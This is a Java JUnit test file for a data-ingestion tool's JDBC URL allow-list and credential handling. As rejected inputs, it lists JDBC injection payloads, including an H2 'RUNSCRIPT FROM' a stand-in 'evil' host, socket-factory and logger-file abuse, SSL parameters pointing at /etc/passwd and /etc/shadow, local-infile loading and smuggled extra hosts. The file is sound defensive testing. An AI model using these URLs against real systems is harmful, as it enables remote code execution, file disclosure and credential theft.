package io.rowmill.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.rowmill.core.failure.FailureException;
import io.rowmill.ingest.source.JdbcUrl;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which databases a request may name, what it may add to their URLs, and where passwords go. */
class SourceAccessTest {
    private static final JdbcAllowList DEFAULT = new JdbcAllowList(List.of("jdbc:postgresql:", "jdbc:hsqldb:hsql:"));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://me:hunter2@db/shop",
                "jdbc:postgresql://db/shop?user=me&password=hunter2",
                "jdbc:postgresql://db/shop?user=me&PassWord=hunter2",
                "jdbc:postgresql://db/shop?pass%77ord=hunter2",
                "jdbc:postgresql://db/shop?sslpassword=hunter2",
                "jdbc:sqlserver://db;databaseName=shop;pwd=hunter2",
                "jdbc:oracle:thin:scott/hunter2@//db:1521/shop",
                "jdbc:mysql://(host=db,password=hunter2)/shop",
                "jdbc:mysql:replication://me:hunter2@db/shop",
                "jdbc:snowflake://db/?token=hunter2",
                "jdbc:x://db/\nhunter2"
            })
    void aPasswordInAUrlIsRefusedAndNotRepeated(String url) {
        assertThatThrownBy(() -> new JdbcUrl(url))
                .isInstanceOf(FailureException.class)
                .hasMessageNotContaining("hunter2");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db:5432/shop?user=me",
                "jdbc:postgresql://db/shop?sslmode=verify-full&currentSchema=sales&connectTimeout=5",
                "jdbc:postgresql:shop",
                "jdbc:hsqldb:hsql://db:9001/shop;ifexists=true"
            })
    void whatIsHarmlessIsLetIn(String url) {
        assertThatCode(() -> DEFAULT.entryFor(new JdbcUrl(url))).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/shop?socketFactory=org.x.Y&socketFactoryArg=http://evil",
                "jdbc:postgresql://db/shop?socket%46actory=org.x.Y",
                "jdbc:postgresql://db/shop?ssl=true&sslfactory=org.x.Y&sslfactoryarg=/etc/passwd",
                "jdbc:postgresql://db/shop?loggerLevel=TRACE&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/shop?authenticationPluginClassName=org.x.Y",
                "jdbc:postgresql://db/shop?sslrootcert=/etc/shadow",
                "jdbc:postgresql://db/shop?sslmode=disable",
                "jdbc:postgresql://db/shop?PGHOST=evil",
                "jdbc:postgresql:///shop?service=other",
                "jdbc:postgresql://db/shop?currentSchema=a&currentSchema=b",
                "jdbc:hsqldb:file:/tmp/x",
                "jdbc:hsqldb:res:chinook",
                "jdbc:hsqldb:mem:x",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:file:/etc/x",
                "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
                "JDBC:POSTGRESQL://db/shop"
            })
    void aRequestReadsNoFileRunsNoCodeAndWeakensNothing(String url) {
        assertThatThrownBy(() -> DEFAULT.entryFor(new JdbcUrl(url))).isInstanceOf(FailureException.class);
    }

    @Test
    void anEntryEndsWhereAHostAPathOrAParameterDoes() {
        // Given
        JdbcAllowList one = new JdbcAllowList(List.of("jdbc:postgresql://db/shop", "jdbc:mysql://files"));

        // Then
        assertThat(one.entryFor(new JdbcUrl("jdbc:postgresql://db/shop?user=me")))
                .isEqualTo("jdbc:postgresql://db/shop");
        for (String outside : List.of(
                "jdbc:postgresql://db/shop2",
                "jdbc:postgresql://db.evil/shop",
                "jdbc:postgresql://db,evil/shop",
                "jdbc:mysql://files.evil/x",
                "jdbc:mysql://files:1/x",
                "jdbc:mysql://files/(host=evil)/x")) {
            assertThatThrownBy(() -> one.entryFor(new JdbcUrl(outside)))
                    .as(outside)
                    .isInstanceOf(FailureException.class);
        }
    }

    @Test
    void noOtherHostFollowsThePortOfAnEntryThatNamesNone() {
        // Given
        JdbcUrl twoHosts = new JdbcUrl("jdbc:postgresql://db:5432,evil/shop");

        // Then
        assertThat(twoHosts.isWithin("jdbc:postgresql://db:")).isFalse();
        assertThat(twoHosts.isWithin("jdbc:postgresql:")).isTrue();
    }

    @Test
    void whatTheOperatorWroteIntoAnEntryIsHisChoice() {
        // Given
        String entry = "jdbc:mysql://db/shop?allowLoadLocalInfile=false&sslMode=DISABLED";

        // Then
        assertThat(new JdbcAllowList(List.of(entry)).entryFor(new JdbcUrl(entry)))
                .isEqualTo(entry);
        assertThatThrownBy(() ->
                        new JdbcAllowList(List.of(entry)).entryFor(new JdbcUrl(entry + "&allowLoadLocalInfile=true")))
                .hasMessageContaining("given twice");
    }

    @Test
    void aSecretGoesOnlyWhereItBelongs() {
        // Given
        Credentials credentials = new Credentials(Map.of(
                "ROWMILL_SECRET_SHOP_USER", "me",
                "ROWMILL_SECRET_SHOP_PASSWORD", "hunter2",
                "ROWMILL_SECRET_SHOP_URL", "jdbc:postgresql://db/shop",
                "ROWMILL_SECRET_LOOSE_USER", "me")::get);

        // Then
        assertThat(credentials
                        .find("shop", new JdbcUrl("jdbc:postgresql://db/shop?ssl=true"), false)
                        .password())
                .contains("hunter2");
        for (String elsewhere : List.of("jdbc:postgresql://db/shop2", "jdbc:postgresql://evil/shop")) {
            assertThatThrownBy(() -> credentials.find("shop", new JdbcUrl(elsewhere), true))
                    .as("even where the operator's list names the host")
                    .hasMessageContaining("ROWMILL_SECRET_SHOP are not for this database")
                    .hasMessageNotContaining("hunter2");
        }
        JdbcUrl any = new JdbcUrl("jdbc:postgresql://any/shop");
        assertThat(credentials.find("loose", any, true).user()).contains("me");
        assertThatThrownBy(() -> credentials.find("loose", any, false))
                .hasMessageContaining("let ROWMILL_SECRET_LOOSE_URL");
        assertThatThrownBy(() -> credentials.find("none", any, true)).hasMessageContaining("ROWMILL_SECRET_NONE_USER");
    }

    @Test
    void theDefaultLoginNeedsADatabaseTooAndNobodyNeedsALogin() {
        // Given
        JdbcUrl any = new JdbcUrl("jdbc:postgresql://any/shop");
        Credentials credentials = new Credentials(Map.of("ROWMILL_SOURCE_USER", "me")::get);

        // Then
        assertThatThrownBy(() -> credentials.find(null, any, false)).hasMessageContaining("ROWMILL_SOURCE_URL");
        assertThat(new Credentials(name -> null).find(null, any, false).user()).isEmpty();
    }

    @Test
    void onlyAnEntryWithAHostOrTheWholeUrlIsDefinite() {
        // Given
        JdbcUrl url = new JdbcUrl("jdbc:postgresql://db/shop");

        // Then
        assertThat(JdbcAllowList.isDefinite("jdbc:postgresql:", url)).isFalse();
        assertThat(JdbcAllowList.isDefinite("jdbc:postgresql://", url)).isFalse();
        assertThat(JdbcAllowList.isDefinite("jdbc:postgresql://db/", url)).isTrue();
        assertThat(JdbcAllowList.isDefinite("jdbc:hsqldb:res:x", new JdbcUrl("jdbc:hsqldb:res:x")))
                .isTrue();
    }
}
